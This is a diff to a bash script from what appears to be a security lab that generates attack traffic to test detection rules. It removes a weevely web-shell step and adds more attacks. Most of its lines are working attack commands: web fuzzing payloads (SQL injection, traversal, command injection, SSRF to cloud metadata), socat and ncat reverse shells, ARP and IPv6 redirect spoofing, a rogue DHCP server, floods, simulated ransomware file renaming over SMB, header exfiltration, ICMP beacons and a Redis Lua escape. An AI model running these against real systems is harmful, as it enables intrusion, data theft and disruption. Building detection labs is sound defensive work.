@@ -1,11 +1,10 @@
 # More attacks of the sixth network, made when those of attacks.sh had been mended: other programs, other paces, other services. Sourced by ../armory.sh after attacks.sh.
 # shellcheck shell=bash disable=SC2034
 
-ARMORY_PACKAGES+=(weevely python3-mako python3-socks dhcpstarv lua5.3 lua-socket tcl icmptx python3-paramiko python3-ldap3 yersinia)
+ARMORY_PACKAGES+=(dhcpstarv lua5.3 lua-socket tcl icmptx python3-paramiko python3-ldap3 yersinia)
 # further SECONDS NAME ARGUMENTS...: a part of further.py on the present attacker; kept HOST NAME ARGUMENTS...: a server of it, for as long as the attack takes.
 further() { on "$1" /usr/bin/python3 "$LAB_HOME/armory/further.py" "${@:2}"; }
 kept() { ns_start "$1" /usr/bin/python3 "$LAB_HOME/armory/further.py" "${@:2}"; sleep 1; }
-KEY=boss
 
 # --- scans
 out nmap_polite port-scan bad $STORE; nmap_polite() { on 100 nmap -n -Pn -sT -T2 --top-ports 100 $STORE; }
@@ -50,7 +49,6 @@ out ffuf_slow web-attack bad2 $WWW; ffuf_slow() { HOME=$LAB_DIR on 60 ffuf -s -p
 out wfuzz_values web-attack bad $APP; wfuzz_values() { printf '%s\n' "'" '"' "' or '1'='1" '1 or 1=1' '../../../etc/passwd' '%00' '<script>alert(1)</script>' '{{7*7}}' '${7*7}' ';id' '|id' '$(id)' '`id`' 'php://filter/convert.base64-encode/resource=index.php' '%2e%2e%2f%2e%2e%2fetc%2fpasswd' >"$LAB_DIR/values"; HOME=$LAB_DIR on 40 wfuzz -c -t 2 -w "$LAB_DIR/values" "http://$APP:8080/index.php?q=FUZZ"; }
 out wapiti_modules web-attack bad2 $APP; wapiti_modules() { HOME=$LAB_DIR on 60 wapiti -u "http://$APP:8080/index.php?q=1" -m xss,sql,file,exec -S polite --flush-session -o "$LAB_DIR/w" -f json; }
 out dirb_delay web-attack bad $APP; dirb_delay() { on 60 dirb http://$APP:8080/ "$(paths 120)" -S -r -z 400; }
-out weevely web-attack bad2 $APP; weevely() { HOME=$LAB_DIR PATH=/usr/bin:/bin command weevely generate never "$LAB_DIR/php/agent.php" >/dev/null 2>&1; chmod a+r "$LAB_DIR/php/agent.php"; HOME=$LAB_DIR PATH=/usr/sbin:/usr/bin:/sbin:/bin on 60 bash -c 'for c in id "uname -a" "ls -la /etc" "cat /etc/passwd" "ps aux"; do weevely http://$0:8080/agent.php never "$c"; sleep 2; done' $APP; }
 out spider_heads web-attack bad $WWW; spider_heads() { on 90 bash -c 'while read -r w; do for e in .zip .sql .tar.gz; do curl -s -I -m 3 -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0" "http://$1/$w$e"; sleep 1; done; done <"$0"' "$(paths 24)" $WWW; }
 out json_bodies web-attack bad2 $WWW; json_bodies() { on 60 bash -c 'for b in "{\"user\":{\"\$ne\":null},\"pass\":{\"\$gt\":\"\"}}" "{\"__proto__\":{\"isAdmin\":true}}" "{\"name\":\"{{constructor.constructor(\u0027return process\u0027)()}}\"}" "{\"q\":\"x\u0027 UNION SELECT login,password FROM users-- -\"}" "{\"url\":\"http://169.254.169.254/latest/meta-data/iam/\"}" "{\"file\":\"....//....//etc/passwd\"}"; do curl -s -m 4 -o /dev/null -H "Content-Type: application/json" --data "$b" http://$0/api/login; sleep 2; done' $WWW; }
 
@@ -122,3 +120,19 @@ lan udp_bash c2-beacon desk $BOSS; udp_bash() { N=5 hears 'nc.openbsd -n -u -l -
 lan tls_idle c2-beacon desk2 $BOSS; tls_idle() { typing 8443 14 "$LAB_DIR/boss"; further 140 tls_shell $BOSS 8443; }
 lan pty_slow c2-beacon desk $BOSS; pty_slow() { typing 4714 12; on 130 socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:$BOSS:4714; }
 lan ncat_six c2-beacon desk2 $BOSS6 2001:db8:a9::32; ncat_six() { hears "ncat -6 -n --ssl -l 4715" ncat -6 --ssl -e /bin/sh $BOSS6 4715; }
+
+# --- Recorded when the rules for those above were written, to see how far they carry.
+lan redirect_six_slow arp-spoof rogue 2001:db8:a9::31 $ROGUE_MAC; redirect_six_slow() { scapy_on rogue 40 "[(sendp(Ether(dst='02:00:5e:00:3e:51')/IPv6(src='fe80::5eff:fe00:3e01',dst='2001:db8:a9::31',hlim=255)/ICMPv6ND_Redirect(tgt='fe80::5eff:fe00:3e4d',dst='2001:db8:f0::5')/ICMPv6NDOptDstLLAddr(lladdr='$ROGUE_MAC'),iface='eth0'),time.sleep(4)) for _ in range(6)]"; }
+lan nping_arp arp-spoof rogue 172.20.9.32 $ROGUE_MAC; nping_arp() { on 80 nping -q --arp --arp-type ARP-reply --source-mac $ROGUE_MAC --dest-mac 02:00:5e:00:3e:52 --arp-sender-mac $ROGUE_MAC --arp-sender-ip 172.20.9.1 --arp-target-mac 02:00:5e:00:3e:52 --arp-target-ip 172.20.9.32 --delay 7s -c 9 172.20.9.32; }
+lan dhcp_discovered arp-spoof rogue '' $ROGUE_MAC; dhcp_discovered() { ns_start rogue dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --pid-file= --port=0 --dhcp-authoritative --no-ping --dhcp-range=172.20.9.180,172.20.9.190 --dhcp-leasefile="$LAB_DIR/rogue-leases2"; sleep 6; for i in 1 2 3; do on_host desk 12 nmap -n --script broadcast-dhcp-discover -e eth0; done; }
+lan ping_all dos-flood rogue ff02::1 -; ping_all() { on 8 ping -6 -q -f -s 400 -I eth0 ff02::1; }
+lan smb_rename malware desk2 $APP; smb_rename() { mkdir -p "$LAB_DIR/shelf"; for i in $(seq 40); do head -c 40000 /dev/urandom >"$LAB_DIR/shelf/f$i.xlsx"; done; chmod -R 777 "$LAB_DIR/shelf"; sed "s#^path=.*#path=$LAB_DIR/shelf#;s/^\[loot\]/[shelf]/;s/^guest account=.*/guest account=root/" "$LAB_DIR/boss-smb.conf" | sed '/^\[serve\]/,$d' >"$LAB_DIR/shelf.conf"; sandboxed app smbd -F --no-process-group -s "$LAB_DIR/shelf.conf"; sleep 2
+    (cd "$LAB_DIR" && for i in $(seq 40); do echo "get f$i.xlsx got; put got f$i.xlsx; rename f$i.xlsx f$i.xlsx.crypt3d;"; done | tr -d '\n' >"$LAB_DIR/shelf.cmd"; on 60 smbclient -N //$APP/shelf -c "$(cat "$LAB_DIR/shelf.cmd")"); }
+lan swaks_direct malware desk $BOSS; swaks_direct() { for i in 220 221 222 223 224 225 226 227 228; do on_host master 3 ip address replace 192.0.2.$i/24 dev eth0; done; kept master relay 25; on 90 bash -c 'for i in $(seq 36); do swaks --server 192.0.2.$((220 + i % 9)) --from "bill$i@shop.example" --to "user$i@mail$((i % 9)).example" --header "Subject: Invoice $i" --body "see http://192.0.2.200/i" >/dev/null; sleep 0.5; done'; }
+lan curl_header exfiltration desk2 $BOSS; curl_header() { on 90 bash -c 'for i in $(seq 350); do curl -s -I -o /dev/null -H "X-Trace: $(head -c 1100 /dev/urandom | base64 -w0)" http://192.0.2.200/; done'; }
+lan ftplib_elf malware desk $BOSS; ftplib_elf() { cp /bin/cat "$LAB_DIR/drop/photo.jpg"; chmod 644 "$LAB_DIR/drop/photo.jpg"; on 20 /usr/bin/python3 -c "import ftplib; f = ftplib.FTP('$BOSS'); f.login(); f.retrbinary('RETR photo.jpg', lambda b: None); f.quit()"; }
+lan curl_smb malware desk2 $BOSS; curl_smb() { on 20 curl -s -m 15 -u guest: -o "$LAB_DIR/got" smb://$BOSS/serve/x86; (cd "$LAB_DIR" && on 20 smbclient -N //$BOSS/serve -c 'get x86 got2'); }
+out mausezahn_refused dos-flood bad2 $APP; mausezahn_refused() { on 30 mausezahn eth0 -q -a 02:00:5e:00:3c:2e -b 02:00:5e:00:3c:01 -A 192.0.2.78 -B $APP -c 1 -d 3m -t udp 'sp=20000-24000,dp=7777' -p 200; }
+out redis_benchmark dos-flood bad $APP; redis_benchmark() { on 25 redis-benchmark -h $APP -k 0 -c 20 -n 6000 -t set -q; }
+lan nping_beacon c2-beacon desk2 $BOSS; nping_beacon() { on 120 bash -c 'for i in $(seq 20); do nping -q -N --icmp --data "$(head -c 40 /dev/urandom | xxd -p -c 40)" -c 1 192.0.2.200; sleep 5; done'; }
+out redis_popen exploit bad $APP; redis_popen() { on 20 bash -c 'printf "EVAL \"local f=package.loadlib(%s/usr/lib/x86_64-linux-gnu/liblua5.1.so.0%s,%sluaopen_os%s); return f().execute(%sid%s)\" 0\r\n" "$2" "$2" "$2" "$2" "$2" "$2" | nc.openbsd -w 3 $1 6379' _ $APP "'"; }
